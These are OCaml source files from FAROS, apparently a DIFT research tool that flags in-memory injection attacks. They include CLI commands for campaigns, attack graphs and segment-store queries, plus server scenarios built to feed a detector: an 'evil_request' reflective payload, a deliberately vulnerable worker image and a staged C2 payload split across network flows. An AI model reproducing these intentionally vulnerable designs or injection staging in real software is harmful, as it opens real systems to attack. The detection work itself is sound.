      | `Netd -> Faros_corpus.Registry.netd_sweeps ()
      | `Sweep1k -> Faros_corpus.Registry.sweep1k ()
      | `Full ->
        Faros_corpus.Registry.all () @ Faros_corpus.Registry.netd_sweeps ()
    in
    let samples =
      match filter with
      | None -> samples
      | Some glob -> Faros_farm.Campaign.filter ~glob samples
    in
    match samples with
    | [] ->
      prerr_endline "no samples match the filter (try `faros list`)";
      1
    | samples ->
      let sink =
        match jsonl_out with
        | None -> Faros_obs.Sink.null
        | Some _ -> Faros_obs.Sink.create ()
      in
      let trace =
        match trace_out with
        | None -> Faros_obs.Trace.null
        | Some _ -> Faros_obs.Trace.collector ()
      in
      let on_progress =
        if not progress then None
        else
          Some
            (fun ~completed ~total (r : Faros_farm.Campaign.job_result) ->
              Fmt.epr "[%d/%d] %s: %s@." completed total r.jr_id
                (Faros_farm.Campaign.verdict_name r.jr_verdict))
      in
      let c =
        Faros_farm.Campaign.run ~workers ~config ?tick_budget ?deadline
          ~graph_segments:(graph_out <> None) ~profile ~sink ~trace
          ~farm_metrics:(profile || stats || jsonl_out <> None)
          ?on_progress samples
      in
      let emit data = function
        | "-" -> print_string data
        | path ->
          write_file path data;
          Fmt.pf pp "wrote %s@." path
      in
      Option.iter (emit (Faros_farm.Campaign.to_json c)) json_out;
      Option.iter (emit (Faros_farm.Campaign.to_csv c)) csv_out;
      (* one segment file per sample, submission order — the store input *)
      Option.iter
        (fun dir ->
          if not (Sys.file_exists dir) then Sys.mkdir dir 0o755;
          let written =
            List.fold_left
              (fun n (r : Faros_farm.Campaign.job_result) ->
                match r.jr_segments with
                | [] -> n
                | rows ->
                  write_file
                    (Filename.concat dir (r.jr_id ^ ".jsonl"))
                    (String.concat "\n" rows ^ "\n");
                  n + 1)
              0 c.results
          in
          if json_out <> Some "-" && csv_out <> Some "-" then
            Fmt.pf pp "wrote %s/ (%d segment file(s))@." dir written)
        graph_out;
      if json_out <> Some "-" && csv_out <> Some "-" then begin
        if summary_only then Faros_farm.Campaign.pp_summary pp c
        else begin
          Faros_farm.Campaign.pp_matrix pp c;
          Faros_farm.Campaign.pp_summary pp c
        end;
        if profile || stats then Faros_farm.Campaign.pp_workers pp c;
        if stats then Faros_obs.Metrics.pp_table pp c.metrics;
        if profile then begin
          Fmt.pf pp "@.hotspots (fleet-merged, self time):@.";
          Faros_obs.Profile.pp_hotspots pp c.profile
        end
      end;
      Option.iter
        (fun path ->
          write_file path (Faros_obs.Sink.contents sink);
          Fmt.pf pp "wrote %s (%d events, %d dropped)@." path
            (Faros_obs.Sink.events sink)
            (Faros_obs.Sink.dropped sink))
        jsonl_out;
      Option.iter
        (fun path ->
          write_file path (Faros_obs.Trace.to_chrome_json trace);
          Fmt.pf pp "wrote %s (%d trace events)@." path
            (Faros_obs.Trace.count trace))
        trace_out;
      if Faros_farm.Campaign.ok c then 0 else 1)

(* [sweep] is the historical serial spelling: a campaign on one worker
   with the classic summary output and the same exit-code semantics. *)
let sweep_cmd () =
  campaign_cmd 1 `Core None None None None None None false false false None
    None None true

(* Profile one sample end to end: record, replay under FAROS, and render
   the span tree plus the hotspot table.  The span structure is
   deterministic (it mirrors the deterministic replay); only the numbers
   carry wall time. *)
let profile_run_cmd id policy block top tree json_out jsonl_out =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample -> (
    match build_config ~block ~policy ~whitelist_jit:false () with
    | Error e ->
      prerr_endline e;
      1
    | Ok config ->
      let profile = Faros_obs.Profile.create () in
      let sink =
        match jsonl_out with
        | None -> Faros_obs.Sink.null
        | Some _ -> Faros_obs.Sink.create ()
      in
      let outcome =
        Faros_corpus.Scenario.analyze ~config ~profile ~sink sample.scenario
      in
      Fmt.pf pp "sample:   %s@." sample.id;
      Fmt.pf pp "verdict:  %s@."
        (if Core.Report.flagged outcome.report then "IN-MEMORY INJECTION FLAGGED"
         else "clean");
      Fmt.pf pp "profiled: %.3f ms over %d span(s)@."
        (float_of_int (Faros_obs.Profile.total_ns profile) /. 1e6)
        (List.length (Faros_obs.Profile.spans profile));
      if tree then begin
        Fmt.pf pp "@.";
        Faros_obs.Profile.pp_tree pp profile
      end;
      Fmt.pf pp "@.hotspots (self time):@.";
      Faros_obs.Profile.pp_hotspots ?top pp profile;
      Option.iter
        (fun path ->
          write_file path (Faros_obs.Profile.to_json profile);
          Fmt.pf pp "wrote %s@." path)
        json_out;
      Option.iter
        (fun path ->
          List.iter
            (fun sp -> Faros_obs.Sink.profile_span sink ~source:sample.id sp)
            (Faros_obs.Profile.spans profile);
          Faros_obs.Sink.metric_snapshot sink ~source:sample.id
            outcome.faros.metrics;
          write_file path (Faros_obs.Sink.contents sink);
          Fmt.pf pp "wrote %s (%d events, %d dropped)@." path
            (Faros_obs.Sink.events sink)
            (Faros_obs.Sink.dropped sink))
        jsonl_out;
      0)

let policies_cmd () =
  Fmt.pf pp "%-16s %-10s %-10s %-6s %-6s %s@." "name" "addr-deps" "ctrl-deps"
    "imm" "1-bit" "files";
  List.iter
    (fun (p : Faros_dift.Policy.t) ->
      Fmt.pf pp "%-16s %-10b %-10b %-6b %-6b %b@." p.policy_name p.address_deps
        p.control_deps p.taint_immediates p.single_bit p.track_files)
    Faros_dift.Policy.all;
  0

let compare_cmd id =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample ->
    let v = Faros_sandbox.Compare.run sample in
    Faros_sandbox.Compare.pp_header pp ();
    Faros_sandbox.Compare.pp_row pp v;
    Fmt.pf pp "hooked api calls seen by cuckoo: %d; raw syscalls it missed: %d@."
      v.v_api_calls v.v_raw_syscalls;
    0

let ps_cmd id =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample ->
    let kernel, _ = Faros_corpus.Scenario.record sample.scenario in
    let dump = Faros_sandbox.Memdump.take kernel in
    List.iter
      (fun p -> Fmt.pf pp "%a@." Faros_sandbox.Volatility.pp_process p)
      (Faros_sandbox.Volatility.pslist dump);
    0

(* Build the attack graph for one sample: analyze with the online builder
   riding along as an extra plugin, enrich offline from shadow memory,
   then render a summary with the whodunit slices and/or export DOT/JSON.
   With --segments the builder runs streaming-only (no resident graph):
   deltas spill through the incremental segment writer to FILE, and the
   summary is printed from the store's reconstruction — byte-identical
   to the resident path. *)
let graph_cmd id policy dot_out json_out slice_only segments_out =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample -> (
    match build_config ~policy ~whitelist_jit:false () with
    | Error e ->
      prerr_endline e;
      1
    | Ok config -> (
      let builder = ref None in
      let seg = ref None in
      let outcome =
        Faros_corpus.Scenario.analyze ~config
          ~extra_plugins:(fun kernel faros ->
            let consumer, resident =
              match segments_out with
              | None -> (None, true)
              | Some path ->
                let oc = open_out_bin path in
                let sink = Faros_obs.Sink.channel oc in
                let w = Faros_query.Segment.writer ~sink ~run:sample.id () in
                seg := Some (path, oc, w);
                (Some (Faros_query.Segment.consume w), false)
            in
            let b =
              Faros_graph.Build.create ?consumer ~resident ~sample:sample.id ()
            in
            builder := Some b;
            [ Faros_graph.Build.plugin b ~kernel ~faros ])
          sample.scenario
      in
      let b = Option.get !builder in
      Faros_graph.Build.enrich b outcome.faros;
      let quiet = dot_out = Some "-" || json_out = Some "-" in
      let full =
        match !seg with
        | None -> Ok (Faros_graph.Build.graph b)
        | Some (path, oc, w) ->
          Faros_query.Segment.close w;
          close_out oc;
          let st = Faros_query.Segment.stats w in
          if not quiet then
            Fmt.pf pp
              "wrote %s (%d rows in %d segment(s), peak live %d node(s) / %d \
               edge(s))@."
              path st.st_rows st.st_segments st.st_peak_live_nodes
              st.st_peak_live_edges;
          let store = Faros_query.Store.create () in
          Result.bind (Faros_query.Store.ingest_file store path) (fun _ ->
              Faros_query.Store.run_graph store sample.id)
      in
      match full with
      | Error e ->
        Fmt.epr "bad segment stream: %s@." e;
        1
      | Ok full ->
      let slices = Faros_graph.Slice.slices full in
      let g, slices =
        if not slice_only then (full, slices)
        else begin
          (* restrict to the union of the whodunit slices; slices are
             recomputed so their ids match the renumbered view *)
          let keep_ids =
            List.concat_map
              (fun (s : Faros_graph.Slice.t) -> s.sl_nodes)
              slices
          in
          let g =
            Faros_graph.Graph.restrict full ~keep:(fun n ->
                List.mem n.Faros_graph.Graph.n_id keep_ids)
          in
          (g, Faros_graph.Slice.slices g)
        end
      in
      let emit data = function
        | "-" -> print_string data
        | path ->
          write_file path data;
          Fmt.pf pp "wrote %s@." path
      in
      Option.iter (emit (Faros_graph.Export.to_dot g)) dot_out;
      Option.iter (emit (Faros_graph.Export.to_json ~slices g)) json_out;
      if dot_out <> Some "-" && json_out <> Some "-" then begin
        Fmt.pf pp "sample:  %s@." sample.id;
        Fmt.pf pp "graph:   %d nodes, %d edges%s@."
          (Faros_graph.Graph.node_count g)
          (Faros_graph.Graph.edge_count g)
          (if slice_only then " (whodunit slice)" else "");
        let nodes = Faros_graph.Graph.nodes g in
        let census =
          List.filter_map
            (fun kind ->
              let c =
                List.length
                  (List.filter
                     (fun n -> Faros_graph.Graph.kind_name n = kind)
                     nodes)
              in
              if c = 0 then None else Some (Printf.sprintf "%s %d" kind c))
            [ "flow"; "process"; "file"; "module"; "region"; "flag" ]
        in
        Fmt.pf pp "nodes:   %s@."
          (if census = [] then "(empty)" else String.concat ", " census);
        (match slices with
        | [] -> Fmt.pf pp "slices:  (none - no flag sites)@."
        | slices ->
          Fmt.pf pp "slices:@.";
          List.iter
            (fun (s : Faros_graph.Slice.t) ->
              Fmt.pf pp "  %s <- %d node(s), %d origin(s)@."
                (Faros_graph.Graph.node_label s.sl_flag)
                (List.length s.sl_nodes)
                (List.length s.sl_origins);
              List.iter
                (fun chain ->
                  Fmt.pf pp "    %s@." (Faros_graph.Slice.render_chain chain))
                s.sl_chains)
            slices)
      end;
      0))

(* Query a campaign's segment store: per-run whodunit slices (the same
   rendering `faros graph` prints), cross-run origin ranking, flow
   lookups, and DOT/JSON export of the merged or per-run graph. *)
let query_cmd dir run_id origins flow_spec dot_out json_out =
  match Faros_query.Store.load ~dir with
  | Error e ->
    prerr_endline e;
    1
  | Ok store -> (
    let fail e =
      Fmt.epr "%s@." e;
      1
    in
    let emit data = function
      | "-" -> print_string data
      | path ->
        write_file path data;
        Fmt.pf pp "wrote %s@." path
    in
    let quiet = dot_out = Some "-" || json_out = Some "-" in
    let export () =
      match (dot_out, json_out) with
      | None, None -> Ok ()
      | _ ->
        Result.bind
          (match run_id with
          | Some run -> Faros_query.Store.run_graph store run
          | None -> Faros_query.Store.merged_graph store)
          (fun g ->
            let slices = Faros_graph.Slice.slices g in
            Option.iter (emit (Faros_graph.Export.to_dot g)) dot_out;
            Option.iter (emit (Faros_graph.Export.to_json ~slices g)) json_out;
            Ok ())
    in
    match export () with
    | Error e -> fail e
    | Ok () ->
      if quiet then 0
      else if origins then (
        match Faros_query.Store.origins store with
        | Error e -> fail e
        | Ok os ->
          let t = Faros_query.Store.totals store in
          Fmt.pf pp "origins: %d distinct origin(s) across %d flagged run(s)@."
            (List.length os) t.t_flag_runs;
          List.iter
            (fun (o : Faros_query.Store.origin) ->
              Fmt.pf pp "  %-44s %3d run(s)  %s@." o.o_label
                (List.length o.o_runs) o.o_ident)
            os;
          0)
      else (
        match flow_spec with
        | Some spec -> (
          match Faros_query.Store.flows store ~spec with
          | Error e -> fail e
          | Ok hits ->
            let hits =
              match run_id with
              | None -> hits
              | Some run ->
                List.filter
                  (fun (h : Faros_query.Store.flow_hit) -> h.fh_run = run)
                  hits
            in
            List.iter
              (fun (h : Faros_query.Store.flow_hit) ->
                Fmt.pf pp "  %-32s %-44s delivered %d, sent %d@." h.fh_run
                  h.fh_label h.fh_delivered h.fh_sent)
              hits;
            Fmt.pf pp "%d flow hit(s) for %S@." (List.length hits) spec;
            0)
        | None ->
          let t = Faros_query.Store.totals store in
          Fmt.pf pp "store:   %s@." dir;
          Fmt.pf pp "runs:    %d (%d complete), %d flagged@." t.t_runs
            t.t_complete t.t_flag_runs;
          Fmt.pf pp "rows:    %d (%d duplicate), %d node(s), %d edge(s)@."
            t.t_rows t.t_dups t.t_nodes t.t_edges;
          let runs =
            match run_id with
            | Some run -> [ run ]
            | None -> Faros_query.Store.runs store
          in
          let rc = ref 0 in
          List.iter
            (fun run ->
              match Faros_query.Store.run_graph store run with
              | Error e ->
                Fmt.epr "%s: %s@." run e;
                rc := 1
              | Ok g ->
                let slices = Faros_graph.Slice.slices g in
                (* print every run when asked for by name; otherwise only
                   the runs with flag sites — the whodunit set *)
                if slices <> [] || run_id <> None then begin
                  Fmt.pf pp "@.sample:  %s@." run;
                  Fmt.pf pp "graph:   %d nodes, %d edges@."
                    (Faros_graph.Graph.node_count g)
                    (Faros_graph.Graph.edge_count g);
                  match slices with
                  | [] -> Fmt.pf pp "slices:  (none - no flag sites)@."
                  | slices ->
                    Fmt.pf pp "slices:@.";
                    List.iter
                      (fun (s : Faros_graph.Slice.t) ->
                        Fmt.pf pp "  %s <- %d node(s), %d origin(s)@."
                          (Faros_graph.Graph.node_label s.sl_flag)
                          (List.length s.sl_nodes)
                          (List.length s.sl_origins);
                        List.iter
                          (fun chain ->
                            Fmt.pf pp "    %s@."
                              (Faros_graph.Slice.render_chain chain))
                          s.sl_chains)
                      slices
                end)
            runs;
          !rc))

open Cmdliner

let id_arg = Arg.(required & pos 0 (some string) None & info [] ~docv:"SAMPLE")

let list_t =
  let netd =
    Arg.(
      value & flag
      & info [ "netd" ]
          ~doc:"Also list the server-daemon samples and sweep families")
  in
  Cmd.v (Cmd.info "list" ~doc:"List the sample corpus") Term.(const list_cmd $ netd)

let policy_arg =
  Arg.(
    value
    & opt (some string) None
    & info [ "policy" ] ~docv:"POLICY" ~doc:"DIFT propagation policy to use")

let run_t =
  let whitelist =
    Arg.(value & flag & info [ "whitelist-jit" ] ~doc:"Suppress known JIT hosts")
  in
  let verbose =
    Arg.(value & flag & info [ "verbose"; "v" ] ~doc:"Print the full report")
  in
  let json =
    Arg.(value & flag & info [ "json" ] ~doc:"Emit the report as JSON")
  in
  let block =
    Arg.(
      value & flag
      & info [ "block" ] ~doc:"Process instructions one basic block at a time")
  in
  let trace_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "trace-out" ] ~docv:"FILE"
          ~doc:"Write structured trace events as Chrome trace_event JSON")
  in
  let series_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "series-out" ] ~docv:"FILE"
          ~doc:
            "Write the tick-sampled telemetry series (.json for JSON, \
             anything else for CSV)")
  in
  Cmd.v
    (Cmd.info "run" ~doc:"Analyze one sample with FAROS")
    Term.(
      const run_cmd $ id_arg $ policy_arg $ whitelist $ verbose $ json $ block
      $ trace_out $ series_out)

let stats_t =
  let block =
    Arg.(
      value & flag
      & info [ "block" ] ~doc:"Process instructions one basic block at a time")
  in
  Cmd.v
    (Cmd.info "stats" ~doc:"Analyze one sample and print the full metrics registry")
    Term.(const stats_cmd $ id_arg $ policy_arg $ block)

let check_json_t =
  let file_arg =
    Arg.(required & pos 0 (some string) None & info [] ~docv:"FILE")
  in
  let jsonl =
    Arg.(
      value & flag
      & info [ "jsonl" ]
          ~doc:"Validate as JSON Lines: every non-blank line on its own")
  in
  Cmd.v
    (Cmd.info "check-json" ~doc:"Check that a file is well-formed JSON")
    Term.(const check_json_cmd $ jsonl $ file_arg)

let compare_t =
  Cmd.v
    (Cmd.info "compare" ~doc:"Compare FAROS with Cuckoo/malfind on one sample")
    Term.(const compare_cmd $ id_arg)

let ps_t =
  Cmd.v (Cmd.info "ps" ~doc:"End-of-run process list") Term.(const ps_cmd $ id_arg)

let record_t =
  let out =
    Arg.(
      required
      & opt (some string) None
      & info [ "o"; "output" ] ~docv:"FILE" ~doc:"Trace file to write")
  in
  Cmd.v
    (Cmd.info "record" ~doc:"Record a sample and save the trace")
    Term.(const record_cmd $ id_arg $ out)

let replay_t =
  let input =
    Arg.(
      required
      & opt (some string) None
      & info [ "i"; "input" ] ~docv:"FILE" ~doc:"Trace file to replay")
  in
  let verbose =
    Arg.(value & flag & info [ "verbose"; "v" ] ~doc:"Print the full report")
  in
  Cmd.v
    (Cmd.info "replay" ~doc:"Analyze a saved trace under FAROS")
    Term.(const replay_cmd $ id_arg $ input $ policy_arg $ verbose)

let events_t =
  Cmd.v
    (Cmd.info "events" ~doc:"Cuckoo-style event trace of one sample")
    Term.(const events_cmd $ id_arg)

let malfind_t =
  Cmd.v
    (Cmd.info "malfind" ~doc:"Snapshot forensics on one sample")
    Term.(const malfind_cmd $ id_arg)

let taint_t =
  Cmd.v
    (Cmd.info "taint" ~doc:"Post-analysis taint map of one sample")
    Term.(const taint_cmd $ id_arg)

let disasm_t =
  Cmd.v
    (Cmd.info "disasm" ~doc:"Disassemble a sample's images")
    Term.(const disasm_cmd $ id_arg)

let graph_t =
  let dot_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "dot" ] ~docv:"FILE"
          ~doc:"Write a Graphviz DOT export ($(b,-) for stdout)")
  in
  let json_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "json" ] ~docv:"FILE"
          ~doc:"Write a JSON export ($(b,-) for stdout)")
  in
  let slice =
    Arg.(
      value & flag
      & info [ "slice" ]
          ~doc:"Restrict the graph to the union of the whodunit slices")
  in
  let segments =
    Arg.(
      value
      & opt (some string) None
      & info [ "segments" ] ~docv:"FILE"
          ~doc:
            "Build streaming-only (no resident graph): spill JSONL segment \
             rows to $(docv) through the bounded-memory incremental writer, \
             then print the summary from the store's reconstruction")
  in
  Cmd.v
    (Cmd.info "graph"
       ~doc:
         "Build the whole-system attack graph of one sample, with whodunit \
          slices from every flag site")
    Term.(
      const graph_cmd $ id_arg $ policy_arg $ dot_out $ json_out $ slice
      $ segments)

let strings_t =
  Cmd.v
    (Cmd.info "strings"
       ~doc:"Provenance-aware strings over netflow-tainted memory")
    Term.(const strings_cmd $ id_arg)

let campaign_t =
  let workers =
    Arg.(
      value & opt int 1
      & info [ "j"; "jobs" ] ~docv:"N" ~doc:"Number of worker domains")
  in
  let corpus =
    Arg.(
      value
      & opt
          (enum
             [
               ("core", `Core); ("netd", `Netd); ("sweep1k", `Sweep1k);
               ("full", `Full);
             ])
          `Core
      & info [ "corpus" ] ~docv:"SET"
          ~doc:
            "Sample set to run: $(b,core) (the 130-sample evaluation, the \
             default), $(b,netd) (the server-daemon sweep families), \
             $(b,sweep1k) (the generated 1,000+ sample behaviour-matrix \
             sweep), or $(b,full) (core + netd)")
  in
  let filter =
    Arg.(
      value
      & opt (some string) None
      & info [ "filter" ] ~docv:"GLOB"
          ~doc:"Only run samples whose id matches the glob ($(b,*), $(b,?))")
  in
  let json_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "json" ] ~docv:"FILE"
          ~doc:"Write the campaign report as JSON ($(b,-) for stdout)")
  in
  let csv_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "csv" ] ~docv:"FILE"
          ~doc:"Write one CSV row per sample ($(b,-) for stdout)")
  in
  let tick_budget =
    Arg.(
      value
      & opt (some int) None
      & info [ "tick-budget" ] ~docv:"TICKS"
          ~doc:"Override every scenario's own instruction budget")
  in
  let deadline =
    Arg.(
      value
      & opt (some float) None
      & info [ "deadline" ] ~docv:"SECONDS"
          ~doc:"Per-job wall-clock budget; overruns become timeout verdicts")
  in
  let profile =
    Arg.(
      value & flag
      & info [ "profile" ]
          ~doc:
            "Profile every job and print the fleet-merged hotspot table plus \
             the per-worker utilization breakdown")
  in
  let stats =
    Arg.(
      value & flag
      & info [ "stats" ]
          ~doc:
            "Print the merged metrics registry (including farm.worker.* \
             gauges) after the matrix")
  in
  let progress =
    Arg.(
      value & flag
      & info [ "progress" ]
          ~doc:"Print one progress line per completed job on stderr")
  in
  let jsonl_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "jsonl-out" ] ~docv:"FILE"
          ~doc:
            "Write the unified streaming telemetry (job lifecycle, trace \
             events, series points, profile spans, metric snapshot) as JSON \
             Lines")
  in
  let trace_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "trace-out" ] ~docv:"FILE"
          ~doc:
            "Write the fleet trace as Chrome trace_event JSON, one process \
             lane per worker")
  in
  let graph_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "graph-out" ] ~docv:"DIR"
          ~doc:
            "Stream every job's attack graph through the incremental segment \
             writer and write one $(b,DIR/<sample>.jsonl) file per sample — \
             the $(b,faros query) store input")
  in
  Cmd.v
    (Cmd.info "campaign"
       ~doc:
         "Analyze the corpus on a parallel worker pool; exit non-zero on any \
          verdict mismatch")
    Term.(
      const campaign_cmd $ workers $ corpus $ filter $ policy_arg $ json_out
      $ csv_out $ tick_budget $ deadline $ profile $ stats $ progress
      $ jsonl_out $ trace_out $ graph_out $ const false)

let query_t =
  let dir_arg = Arg.(required & pos 0 (some string) None & info [] ~docv:"DIR") in
  let run =
    Arg.(
      value
      & opt (some string) None
      & info [ "run" ] ~docv:"SAMPLE"
          ~doc:"Restrict to one run (its exact per-run reconstruction)")
  in
  let origins =
    Arg.(
      value & flag
      & info [ "origins" ]
          ~doc:
            "Rank every slice origin across every run by the number of runs \
             whose whodunit slices reached it")
  in
  let flows =
    Arg.(
      value
      & opt (some string) None
      & info [ "flows" ] ~docv:"SPEC"
          ~doc:
            "List flow nodes whose stable identity contains $(docv) \
             ($(b,SRC:sport->DST:dport), or any fragment of it)")
  in
  let dot_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "dot" ] ~docv:"FILE"
          ~doc:"Write a Graphviz DOT export ($(b,-) for stdout)")
  in
  let json_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "json" ] ~docv:"FILE"
          ~doc:"Write a JSON export ($(b,-) for stdout)")
  in
  Cmd.v
    (Cmd.info "query"
       ~doc:
         "Query a campaign's graph-segment store: whodunit slices, \
          cross-run origin ranking, flow lookups, merged-graph export")
    Term.(
      const query_cmd $ dir_arg $ run $ origins $ flows $ dot_out $ json_out)

let profile_t =
  let top =
    Arg.(
      value
      & opt (some int) None
      & info [ "top" ] ~docv:"N" ~doc:"Rows in the hotspot table (default 20)")
  in
  let tree =
    Arg.(
      value & flag
      & info [ "tree" ] ~doc:"Also print the full indented span tree")
  in
  let block =
    Arg.(
      value & flag
      & info [ "block" ] ~doc:"Process instructions one basic block at a time")
  in
  let json_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "json" ] ~docv:"FILE" ~doc:"Write the span tree as JSON")
  in
  let jsonl_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "jsonl-out" ] ~docv:"FILE"
          ~doc:"Write profile spans and the metric snapshot as JSON Lines")
  in
  let run =
    Cmd.v
      (Cmd.info "run"
         ~doc:"Analyze one sample under the span profiler and print hotspots")
      Term.(
        const profile_run_cmd $ id_arg $ policy_arg $ block $ top $ tree
        $ json_out $ jsonl_out)
  in
  Cmd.group
    (Cmd.info "profile"
       ~doc:"Whole-pipeline span profiling (fetch/translate, propagate, \
             detect, kernel, graph)")
    [ run ]

let sweep_t =
  Cmd.v
    (Cmd.info "sweep" ~doc:"Analyze the whole corpus serially; exit non-zero on any verdict mismatch")
    Term.(const sweep_cmd $ const ())

let policies_t =
  Cmd.v
    (Cmd.info "policies" ~doc:"List available DIFT propagation policies")
    Term.(const policies_cmd $ const ())

let () =
  let doc = "FAROS: provenance-based whole-system DIFT for in-memory injection attacks" in
  exit
    (Cmd.eval'
       (Cmd.group (Cmd.info "faros" ~doc)
          [
            list_t;
            run_t;
            record_t;
            replay_t;
            events_t;
            malfind_t;
            compare_t;
            ps_t;
            stats_t;
            check_json_t;
            taint_t;
            strings_t;
            graph_t;
            query_t;
            disasm_t;
            campaign_t;
            profile_t;
            sweep_t;
            policies_t;
          ]))
