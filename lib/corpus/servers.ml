(* Server-side scenarios: guest daemons under host-initiated traffic.

   Every other sample in the corpus is a short-lived outbound client.
   These scenarios exercise the workload the paper's per-netflow
   provenance exists for: a long-lived server multiplexing many
   connections, where a flag must be pinned to the one guilty flow among
   hundreds of benign ones.

   The traffic is a deterministic [Faros_netd.Gen] schedule; at record
   time the netstack pump delivers it at slice boundaries and the trace
   stores the delivered events tick-stamped, so replay is exact. *)

open Faros_netd

(* Traffic targets the kernel's default local IP. *)
let guest_ip = Faros_os.Types.Ip.of_string "169.254.57.168"
let server_port = Daemon.default_port

(* What a benign client asks; never starts with {!Daemon.exec_magic}. *)
let benign_request i = Printf.sprintf "GET /item/%d HTTP/1.0\r\n\r\n" i

(* The guilty request: exec-magic plus a reflective payload linked for the
   worker's first allocation (the deterministic heap base). *)
let evil_request ?(text = "injected via netd") () =
  Progs.u32_le Daemon.exec_magic ^ Payloads.popup ~text ()

(* Tick budget: the schedule horizon, service time per connection, and
   slack for boot + the final drain. *)
let budget (s : Gen.schedule) = Gen.horizon s + (s.clients * 800) + 100_000

let listener_scenario ?(worker_close = false) ~name ~sched ~expected () =
  Scenario.make ~inbound:(Gen.events sched)
    ~images:
      [
        ("netd.exe", Daemon.listener_image ~expected ~worker_path:"worker.exe" ());
        ("worker.exe", Daemon.worker_image ~close_conn:worker_close ~vulnerable:true ());
      ]
    ~boot:[ "netd.exe" ] ~max_ticks:(budget sched) name

(* Benign server under load: the false-positive baseline.  The worker is
   the same vulnerable image the attack scenarios use — only the traffic
   differs, so a flag here would be a genuine false positive. *)
let benign_load ?(clients = 100) ?(arrival = Gen.Uniform 40) ?(name = "netd_benign_load")
    () =
  let sched =
    Gen.make ~arrival ~dst_ip:guest_ip ~dst_port:server_port
      ~payload:(fun i -> [ benign_request i ])
      clients
  in
  (listener_scenario ~name ~sched ~expected:clients (), sched)

(* Injection through the server: [clients] connections, all benign except
   the [guilty] one, whose request the vulnerable worker executes.  The
   whodunit question: which of the hundreds of flows delivered the
   payload? *)
let inject_under_load ?(clients = 100) ?guilty ?(arrival = Gen.Uniform 40)
    ?(worker_close = false) ?(name = "netd_inject_under_server") () =
  let guilty = match guilty with Some g -> g | None -> clients / 2 in
  let sched =
    Gen.make ~arrival ~dst_ip:guest_ip ~dst_port:server_port
      ~payload:(fun i ->
        if i = guilty then [ evil_request () ] else [ benign_request i ])
      clients
  in
  (listener_scenario ~worker_close ~name ~sched ~expected:clients (), sched, guilty)

let guilty_flow sched guilty = Gen.flow_of_client sched guilty

(* Arbitrary per-client chunk lists against the vulnerable listener: the
   property-based tests drive random benign/evil traffic mixes through
   exactly the machinery the curated samples use. *)
let custom_load ?(arrival = Gen.Uniform 40) ?(worker_close = false) ~name
    ~payloads () =
  let clients = List.length payloads in
  let table = Array.of_list payloads in
  let sched =
    Gen.make ~arrival ~dst_ip:guest_ip ~dst_port:server_port
      ~payload:(fun i -> table.(i))
      clients
  in
  (listener_scenario ~worker_close ~name ~sched ~expected:clients (), sched)

(* Split [s] into [n] near-equal pieces (host side, for staging). *)
let split_payload s n =
  let len = String.length s in
  let per = (len + n - 1) / n in
  List.init n (fun k ->
      let off = k * per in
      if off >= len then "" else String.sub s off (min per (len - off)))

(* Staged C2: the payload travels split across [stages] sequential flows;
   the stager daemon reassembles and executes it.  No single flow carries
   enough to be the whole story — the slice must reach netflow origins
   through the reassembled buffer. *)
let staged_c2 ?(stages = 3) ?(gap = 600) ?(name = "netd_staged_c2") () =
  let pieces = split_payload (Payloads.popup ~text:"staged via netd" ()) stages in
  let sched =
    Gen.make ~arrival:(Gen.Uniform gap) ~dst_ip:guest_ip ~dst_port:server_port
      ~payload:(fun i -> [ List.nth pieces i ])
      stages
  in
  let scn =
    Scenario.make ~inbound:(Gen.events sched)
      ~images:[ ("staged.exe", Daemon.stager_image ~stages ()) ]
      ~boot:[ "staged.exe" ] ~max_ticks:(budget sched) name
  in
  (scn, sched)

(* Mux fan-in: one process, [clients] concurrent connections, each
   delivering a distinct payload into its own slot buffer.  The
   per-flow-attribution test reads each slot's provenance back and
   asserts no cross-flow bleed. *)
let mux_payload i =
  Printf.sprintf "FLOW-%04d:%s" i (String.make (40 + (i mod 7)) (Char.chr (65 + (i mod 26))))

let mux_fanin ?(clients = 6) ?(arrival = Gen.Burst { size = 3; gap = 300 })
    ?(name = "netd_mux_fanin") () =
  let image, layout = Daemon.mux_image ~slots:clients ~expected:clients () in
  let sched =
    Gen.make ~arrival ~dst_ip:guest_ip ~dst_port:server_port
      ~payload:(fun i -> [ mux_payload i ])
      clients
  in
  let scn =
    Scenario.make ~inbound:(Gen.events sched)
      ~images:[ ("muxd.exe", image) ]
      ~boot:[ "muxd.exe" ] ~max_ticks:(budget sched) name
  in
  (scn, sched, layout)
