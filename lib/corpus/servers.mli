(** Server-side scenarios: guest daemons under host-initiated traffic —
    the workload per-netflow provenance exists for.  Each builder returns
    the scenario together with its traffic schedule so tests can recover
    per-client flows ({!guilty_flow}). *)

open Faros_netd

val guest_ip : Faros_os.Types.Ip.t
val server_port : int

val benign_request : int -> string

val evil_request : ?text:string -> unit -> string
(** Exec-magic plus a reflective payload linked for the worker's first
    allocation. *)

val budget : Gen.schedule -> int
(** Tick budget: schedule horizon + per-connection service + slack. *)

val benign_load :
  ?clients:int -> ?arrival:Gen.arrival -> ?name:string -> unit -> Scenario.t * Gen.schedule
(** Benign server under load — the false-positive baseline.  Same
    vulnerable worker image as the attack scenarios; only traffic
    differs. *)

val inject_under_load :
  ?clients:int ->
  ?guilty:int ->
  ?arrival:Gen.arrival ->
  ?worker_close:bool ->
  ?name:string ->
  unit ->
  Scenario.t * Gen.schedule * int
(** All-benign traffic except client [guilty] (default [clients/2]),
    whose request the vulnerable worker executes.  Returns the guilty
    client index.  [worker_close] makes the echo workers close their
    connection before halting (flow quiescence for incremental graph
    builders); off by default to keep existing traces byte-stable. *)

val guilty_flow : Gen.schedule -> int -> Faros_os.Types.flow

val custom_load :
  ?arrival:Gen.arrival ->
